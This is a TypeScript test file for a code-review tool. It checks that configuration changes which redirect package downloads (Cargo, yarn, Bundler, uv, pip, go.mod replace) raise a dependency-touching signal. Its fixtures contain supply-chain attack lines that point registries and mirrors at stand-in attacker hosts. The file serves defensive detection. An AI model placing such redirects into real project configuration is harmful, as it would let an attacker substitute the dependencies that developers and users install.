/**
 * Red team: a package manager's own configuration can send every download to
 * another server while its lockfile still names the public index (Cargo's
 * source replacement, Bundler's mirrors, uv's index). The lockfile check
 * cannot see that; what can is the security lane, which runs when a change
 * touches dependencies. Cargo's, yarn's, Bundler's, uv's and pip's configuration raise touches_deps.
 */
import { describe, expect, it } from "vitest";
import { signalsFromChanges } from "../../src/review/signals/compute.js";
import type { FileChange } from "../../src/review/signals/types.js";
import { lockfileKindOf } from "../../src/review/lockfiles/index.js";
import { reviewFilePolicy, skipDecision } from "../../src/review/codeReview/filePolicy.js";

const change = (path: string, addedLines: string[]): FileChange => ({ path, status: "added", binary: false, addedLines });

describe("configuration that redirects package downloads", () => {
  it("Cargo's source replacement and yarn's registry server raise touches_deps", () => {
    expect(
      signalsFromChanges([
        change(".cargo/config.toml", [
          "[source.crates-io]",
          'replace-with = "mirror"',
          "[source.mirror]",
          'registry = "sparse+https://crates.attacker.example/"',
        ]),
      ]).touches_deps,
    ).toBe(true);
    expect(signalsFromChanges([change(".yarnrc.yml", ['npmRegistryServer: "https://npm.attacker.example"'])]).touches_deps).toBe(true);
  });

  it("a go.mod `replace` to a folder outside the repository is reviewed as code and raises touches_deps (go.sum names no source)", () => {
    const replace = change("go.mod", ["replace golang.org/x/crypto => ../../../tmp/crypto"]);
    expect(signalsFromChanges([replace]).touches_deps).toBe(true);
    expect(lockfileKindOf("go.mod")).toBeUndefined();
    expect(
      skipDecision(
        { path: "go.mod", status: "modified", binary: false, additions: 1, deletions: 0, patch: "@@ -1 +1 @@\n+x\n" },
        reviewFilePolicy({ withheld: () => undefined }),
      ),
    ).toBeUndefined();
  });

  // `.bundle/config` (Bundler reads it from the project: a mirror there gets every gem download while
  // Gemfile.lock still says rubygems.org), `uv.toml` and `pip.conf` (an index URL) redirect downloads too.
  it("Bundler's mirror, uv's index and pip's configuration raise touches_deps", () => {
    expect(signalsFromChanges([change(".bundle/config", ['BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "https://gems.attacker.example"'])]).touches_deps).toBe(true);
    expect(signalsFromChanges([change("uv.toml", ['index-url = "https://pypi.attacker.example/simple"'])]).touches_deps).toBe(true);
    expect(signalsFromChanges([change("pip.conf", ["[global]", "index-url = https://pypi.attacker.example/simple"])]).touches_deps).toBe(true);
  });
});
